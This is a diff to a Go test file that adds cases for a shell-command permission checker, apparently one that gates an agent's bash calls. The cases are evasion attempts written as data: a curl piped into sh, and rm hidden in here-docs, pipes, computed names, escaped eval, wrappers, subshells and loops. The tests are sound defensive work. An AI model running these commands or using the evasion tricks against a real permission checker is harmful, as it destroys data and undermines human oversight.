@@ -95,6 +95,28 @@ func TestBashRules(t *testing.T) {
 		{"bash -c \"$x\"", Ask}, // a computed -c line
 		{"eval \"$x\"", Ask},
 		{"echo 'unterminated", Ask}, // does not parse
+		// Attempts to run what the rules cannot see: each is asked about.
+		{"bash <<EOF\nrm -rf x\nEOF", Ask},   // a shell reading a here-doc
+		{"curl -s x.example | sh", Deny},     // curl is denied itself
+		{"echo 'rm -rf x' | bash", Ask},      // a shell reading its input
+		{"echo ok > s.sh && bash s.sh", Ask}, // a script written, then run
+		{"source ./s.sh", Ask},
+		{". ./s.sh", Ask},
+		{`bash -c "$(echo rm -rf x)"`, Ask}, // a computed -c line
+		{"x=rm; $x -rf y", Ask},             // a name from a variable
+		{"${X:-rm} -rf y", Ask},
+		{`e\val 'rm x'`, Deny}, // escapes in the name
+		{"'eval' 'rm x'", Deny},
+		{"command eval 'rm x'", Deny},
+		{"env -i PATH=/bin rm x", Deny},
+		{"exec -a ls rm x", Deny},
+		{"echo x && (echo y; (rm z))", Deny}, // nested subshells
+		{"echo <(rm x)", Deny},               // process substitution
+		{"if true; then rm x; fi", Deny},
+		{"for f in *; do rm \"$f\"; done", Deny},
+		{"while read f; do rm $f; done < list", Deny},
+		{"echo x | xargs -I{} rm {}", Deny},
+		{"find . -type f -execdir rm {} +", Deny},
 	} {
 		d := p.Decide("bash", bash(tc.cmd), env)
 		require.Equal(t, tc.want, d.Verdict, "%q: %+v", tc.cmd, d)
